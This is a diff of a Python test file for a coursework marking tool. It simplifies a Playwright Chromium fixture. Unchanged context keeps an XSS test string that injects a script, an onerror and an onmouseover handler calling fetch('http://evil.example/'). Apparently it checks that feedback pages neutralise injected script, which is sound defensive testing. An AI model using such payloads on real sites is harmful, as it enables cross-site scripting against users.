@@ -4,7 +4,6 @@ import contextlib
 import json
 import os
 import re
-import shutil
 import socket
 import subprocess
 import sys
@@ -15,15 +14,12 @@ from pathlib import Path
 import pytest
 from axe_playwright_python.sync_playwright import Axe
 from nbgrader.api import Gradebook
-from playwright.sync_api import Error, sync_playwright
 
 from coursework.making.course import make
 from coursework.marking.grader import grade
 from coursework.showing.feedback import schemes
 
 PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
-FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
-MISSING = "no browser: install Chromium (Debian: apt install chromium), or run .venv/bin/playwright install chromium"
 RUN = "window.ran=1;fetch('http://evil.example/')"
 ATTACK = f"""\
 I saw a fall, $x^2 < 1$. <script>{RUN}</script><img src=x onerror="{RUN}"> <b onmouseover="{RUN}">bold</b>
@@ -109,19 +105,10 @@ def marked(alone, first, tmp_path_factory):
 
 
 @pytest.fixture(scope="module")
-def browser():
-    """Chromium: the one of CHROMIUM, of the system, or playwright's own."""
-    names = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
-    found = os.environ.get("CHROMIUM") or next(filter(None, map(shutil.which, names)), None)
-    with sync_playwright() as playwright:
-        try:
-            launched = playwright.chromium.launch(executable_path=found, args=FLAGS)
-        except Error:
-            if os.environ.get("CI"):
-                pytest.fail(MISSING)
-            pytest.skip(MISSING)
-        yield launched
-        launched.close()
+def browser(chromium):
+    """Chromium, started once for all pages."""
+    with chromium() as started:
+        yield started
 
 
 class Visit:
